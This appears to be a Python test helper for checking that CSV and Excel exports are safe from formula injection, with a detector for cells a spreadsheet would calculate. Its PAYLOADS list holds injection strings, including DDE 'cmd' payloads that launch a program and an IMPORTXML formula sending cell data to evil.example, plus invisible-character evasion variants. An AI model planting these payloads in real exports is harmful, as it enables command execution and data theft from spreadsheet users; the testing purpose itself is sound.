"""Reads an export as a spreadsheet would, with rules of its own: not those that wrote it."""

import csv
import io
import re
import unicodedata
from typing import Any

import openpyxl

OURS = re.compile(r"-?\d+(\.\d+)?")  # what we write as a figure
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "\r\n=1+1", " =1+1", "\xa0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\x00=1+1",
    "\x01=1+1", "\x7f=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "−1+1", "⁼1+1",
    "\"=1+1", "\"=1+1\"", "\",=1+1", "\";=1+1", "a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1",
    "a\r=1+1", "a;\"=1+1\";b", "a, -5+cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")",
    "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "%0A=1+1\n\n\t ;=1+1", "\t", "\r",
    "-", "=", "a;\u200b\t＝1", "=1+1\x00", "'\t=1+1", "\u3000＝1+1", "=WEBSERVICE(\"//x\");=1",
]  # fmt: skip


def is_formula(cell: str) -> bool:
    """Whether some program might calculate this cell: blanks and invisible signs do not help."""
    if OURS.fullmatch(cell):
        return False
    skipped = ("Cc", "Cf", "Zs", "Zl", "Zp")
    seen = [one for one in cell if unicodedata.category(one) not in skipped and one != '"']
    first = unicodedata.normalize("NFKC", "".join(seen))[:1].replace("\u2212", "-")
    return first in ("=", "+", "-", "@")


def rows_of(content: bytes, delimiter: str = ",") -> list[list[str]]:
    """The cells of a CSV, heads first, split at this sign."""
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def formulas(content: bytes) -> list[str]:
    """Cells that are formulas to some program, whatever it splits a CSV at."""
    return [
        cell
        for delimiter in ",;\t"
        for row in rows_of(content, delimiter)
        for cell in row
        if is_formula(cell)
    ]


def workbook(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def table(content: bytes) -> list[list[Any]]:
    """The cells of the first page of a workbook, heads first."""
    return [list(row) for row in workbook(content).worksheets[0].iter_rows(values_only=True)]


def about(content: bytes) -> dict[str, list[Any]]:
    """What the page about the export says, by its first words."""
    found: dict[str, list[Any]] = {}
    page = workbook(content)["About this export"]
    for words, *values in page.iter_rows(values_only=True, max_col=3):
        found.setdefault(words, []).append(values[0] if values[1] is None else tuple(values))
    return found
